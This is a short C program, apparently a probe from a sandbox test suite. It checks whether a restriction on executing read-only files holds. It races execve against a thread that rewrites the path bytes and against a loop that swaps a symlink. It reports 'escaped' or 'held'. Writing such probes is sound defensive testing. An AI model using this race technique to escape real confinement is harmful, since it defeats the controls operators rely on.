/* Executes a path, and a link, that lead now to a program that may be executed and now to one
 * that may only be read. Argument: the second. */
#include "attack.h"
#include <pthread.h>
#include <sys/mman.h>

static char *path;
static const char *wanted;
static volatile int over;

static void *swap_bytes(void *none) {
    while (!over) {
        strcpy(path, "/usr/bin/true");
        strcpy(path, wanted);
    }
    return none;
}

static void *swap_links(void *none) {
    while (!over) {
        symlink("/usr/bin/true", "new");
        rename("new", "way");
        symlink(wanted, "new");
        rename("new", "way");
    }
    return none;
}

/* Swapped by another process: an exec ends the other threads of its own. */
static void race(void *(*swapper)(void *), const char *name) {
    int status, done = 0;
    pid_t other = fork();
    if (other == 0) swapper(NULL);
    for (double end = now() + 3; now() < end;) {
        pid_t child = fork();
        if (child == 0) {
            char *words[] = {"x", NULL};
            execve(name, words, words + 1);
            _exit(1);
        }
        waitpid(child, &status, 0);
        if (WIFEXITED(status) && WEXITSTATUS(status) == ESCAPED) escaped(name == path ? "a path" : "a link");
        done += WIFEXITED(status) && WEXITSTATUS(status) == 0;
    }
    kill(other, SIGKILL);
    waitpid(other, &status, 0);
    /* Else nothing was tried. */
    if (done == 0) _exit(4);
    fprintf(stderr, "held: executed what may be %d times\n", done);
}

int main(int argc, char **argv) {
    if (argc != 2) return 3;
    path = mmap(NULL, 8192, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    wanted = argv[1];
    race(swap_bytes, path);
    race(swap_links, "way");
    return 0;
}
